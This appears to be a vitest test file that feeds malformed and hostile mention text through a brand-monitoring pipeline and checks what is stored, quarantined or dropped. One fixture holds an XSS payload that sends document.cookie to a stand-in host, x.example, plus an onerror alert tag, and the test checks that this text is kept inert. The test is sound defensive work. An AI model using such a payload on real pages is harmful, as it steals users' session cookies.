import { Subject, firstValueFrom, toArray } from "rxjs";
import { testFlowDeps } from "../support/flow-deps";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { RawMention } from "../../collectors/source";
import { buildFlow, type FlowDeps } from "../../pipeline/flow";
import type { ScoredMention } from "../../pipeline/mention";
import { scoreSentiment } from "../../pipeline/stages/score-sentiment";
import type { SentimentScorer } from "../../pipeline/stages/sentiment/create-scorer";
import { openStore } from "../../pipeline/store/open-store";
import { Spill } from "../../pipeline/store/spill";
import type { Store } from "../../pipeline/store/store";
import type { WriteResult } from "../../pipeline/store/writer";
import { freshDatabase } from "../contracts/store.contract";
import { tempDirs } from "../support/temp-dir";

/**
 * Hostile and odd mention text through every stage (normalise, brand match,
 * language, sentiment, problem types, priority) into a real chDB store and
 * back: what is stored, what is quarantined with which reason, what is dropped.
 * The stored-text rule: control characters, unpaired surrogates, direction
 * overrides and invisible separators are removed, whitespace is folded, and
 * text past pipeline.maxTextChars is clipped (logged with the mention's id).
 * Markup in plain `text` is kept as inert characters; `html` is read as markup.
 */
const dirs = tempDirs();
const dataDir = dirs.make("earshot-flow-bad-");
const MAX_TEXT = 2_000;
let store: Store;
beforeAll(async () => {
  store = await openStore({ kind: "embedded", dataDir, database: freshDatabase() });
});
afterAll(() => store.close());

const at = Date.now() - 60_000;
const post = (id: string, fields: Partial<RawMention>): RawMention => ({ source: "odd", sourceId: id, publishedAt: at, ...fields });
const MEGABYTE_TAIL = "ąę ".repeat(350_000);

/** A flow for `brand` into the shared store, with the given log and (optionally) a sentiment scorer of its own. */
function flowFor(raw$: Subject<RawMention>, brand: string, log: FlowDeps["log"], scorer?: SentimentScorer) {
  return buildFlow(
    raw$,
    testFlowDeps({ store, spill: new Spill(dirs.make("spill-")), brand, ...(scorer ? { scoreSentiment: scorer } : {}), settings: { maxTextChars: MAX_TEXT }, log }),
  );
}

describe("buildFlow() on odd and hostile input", () => {
  test("buildFlow() stores odd text by the stated rule, quarantines the unreadable with reasons, drops only what names no brand, and never stops", async () => {
    const raws: unknown[] = [
      post("megabyte", { text: `Lumio nie działa ${MEGABYTE_TAIL}` }),
      post("nul", { text: "Lumio\u0000 nie\u0001 działa\u0007 \u0000" }),
      post("surrogates", { text: "Lumio \uD800awaria\uDC00 😡" }),
      post("rtl", { text: "\u202ELumio\u202C \u200Fнe работает\u200F" }),
      post("disguised", { text: "Lu\u200Bmio L\u00ADumio Lu\u2060mio awaria" }),
      post("emoji-only", { text: "😡😡😡🔥" }),
      post("emoji-brand", { text: "Lumio 😡😡😡" }),
      post("script-text", { text: "<script>fetch('//x.example/'+document.cookie)</script> Lumio <img src=x onerror=alert(1)>" }),
      post("script-html", { html: "<p>Lumio <b>nie działa</b></p><script>steal()</script><style>p{}</style>" }),
      post("controls-only", { text: "\u0000\u0001\u200B\u202E \uD800" }),
      post("megabyte-bad-date", { text: `Lumio ${MEGABYTE_TAIL}`, publishedAt: "when pigs fly" }),
      "a bare string, not an object",
      null,
      // Written by JSON as 1e+30, which the UInt64 column refuses: it must not hold up its batch.
      post("huge-followers", { text: "Lumio huge reach", author: { followers: 1e30 } }),
      post("after", { text: "Lumio works again" }),
    ];
    const raw$ = new Subject<RawMention>();
    const infos: { obj: Record<string, unknown>; msg: string }[] = [];
    const errors: string[] = [];
    const flow = flowFor(raw$, "Lumio", {
      debug() {},
      info: (obj, msg = "") => void infos.push({ obj: obj as Record<string, unknown>, msg }),
      warn() {},
      error: (_obj, msg = "") => void errors.push(msg),
    });
    const writes: WriteResult[] = [];
    flow.writes$.subscribe((w) => writes.push(w));
    const done = firstValueFrom(flow.live$.pipe(toArray()));
    flow.start();
    // Untrusted pushes carry anything; the flow's input type does not make it so.
    for (const r of raws) raw$.next(r as RawMention);
    raw$.complete();
    await done;

    expect(errors).toEqual([]);
    expect(writes.every((w) => "stored" in w)).toBe(true);
    const stored = new Map<string, ScoredMention>();
    for (const m of await store.recentMentions({ limit: 100 })) stored.set(m.sourceId, m);
    expect([...stored.keys()].sort()).toEqual(
      ["after", "disguised", "emoji-brand", "huge-followers", "megabyte", "nul", "rtl", "script-html", "script-text", "surrogates"].sort(),
    );
    expect(stored.get("huge-followers")?.authorFollowers).toBe(Number.MAX_SAFE_INTEGER);
    const text = (id: string) => stored.get(id)?.text;

    const megabyte = text("megabyte") ?? "";
    expect(megabyte.length).toBeLessThanOrEqual(MAX_TEXT);
    expect(megabyte.length).toBeGreaterThan(MAX_TEXT - 10);
    expect(megabyte.startsWith("Lumio nie działa ąę ąę")).toBe(true);
    expect(infos).toContainEqual({ obj: { mention: "odd:megabyte", maxTextChars: MAX_TEXT }, msg: "mention text clipped to pipeline.maxTextChars" });
    expect(stored.get("megabyte")?.problems.map((p) => p.type)).toContain("outage");

    expect(text("nul")).toBe("Lumio nie działa");
    expect(text("surrogates")).toBe("Lumio awaria 😡");
    expect(text("rtl")).toBe("Lumio нe работает");
    expect(text("disguised")).toBe("Lumio Lumio Lumio awaria");
    expect(stored.get("disguised")?.matchedTerms.length).toBeGreaterThan(0);
    expect(text("emoji-brand")).toBe("Lumio 😡😡😡");
    expect(stored.get("emoji-brand")?.sentiment.label).toBe("negative");
    expect(text("script-text")).toBe("<script>fetch('//x.example/'+document.cookie)</script> Lumio <img src=x onerror=alert(1)>");
    expect(text("script-html")).toBe("Lumio nie działa");
    for (const m of stored.values()) {
      expect(m.lang).toMatch(/^[a-z]{2,3}$/);
      expect(["low", "normal", "high", "urgent"]).toContain(m.priority);
      expect(Number.isFinite(m.sentiment.score)).toBe(true);
    }

    // Kept with a reason, the input as it came (a megabyte of it included).
    const quarantined = await store.quarantined(100);
    const reasons = quarantined.map((q) => `${q.stage}:${q.reason}`).sort();
    expect(reasons).toEqual(["normalize:bad-published-at", "normalize:empty-text", "normalize:not-an-object", "normalize:not-an-object"]);
    const badDate = quarantined.find((q) => q.reason === "bad-published-at");
    expect(JSON.parse(badDate?.payload ?? "{}")).toEqual(raws.find((r) => (r as RawMention | null)?.sourceId === "megabyte-bad-date"));
    expect(quarantined.map((q) => q.payload)).toEqual(expect.arrayContaining(['"a bare string, not an object"', "null"]));
  });
  test("buildFlow() quarantines a mention a stage throws on and scores the ones after it", async () => {
    // The real scorer with one fault put in: no real stage throws on any text
    // fast-check has found, so the flow's safety net needs an injected fault to be seen at work.
    const faulty: SentimentScorer = (text, lang, rating) => {
      if (text.includes("trigger-fault")) throw new RangeError("scorer fault");
      return scoreSentiment(text, lang, rating);
    };
    const raw$ = new Subject<RawMention>();
    const errors: string[] = [];
    const flow = flowFor(raw$, "Faulty", { debug() {}, info() {}, warn() {}, error: (_obj, msg = "") => void errors.push(msg) }, faulty);
    const done = firstValueFrom(flow.live$.pipe(toArray()));
    flow.start();
    raw$.next(post("fault-1", { text: "Faulty before" }));
    raw$.next(post("fault-2", { text: "Faulty trigger-fault" }));
    raw$.next(post("fault-3", { text: "Faulty after, nie działa" }));
    raw$.complete();
    await done;

    expect(errors).toEqual([]);
    expect((await store.recentMentions({ brand: "Faulty", limit: 10 })).map((m) => m.sourceId).sort()).toEqual(["fault-1", "fault-3"]);
    const kept = (await store.quarantined(100)).filter((q) => q.stage === "enrich");
    expect(kept).toEqual([expect.objectContaining({ reason: "internal-error", error: "scorer fault" })]);
    expect(JSON.parse(kept[0]!.payload)).toMatchObject({ id: "odd:fault-2", text: "Faulty trigger-fault" });
  });
});
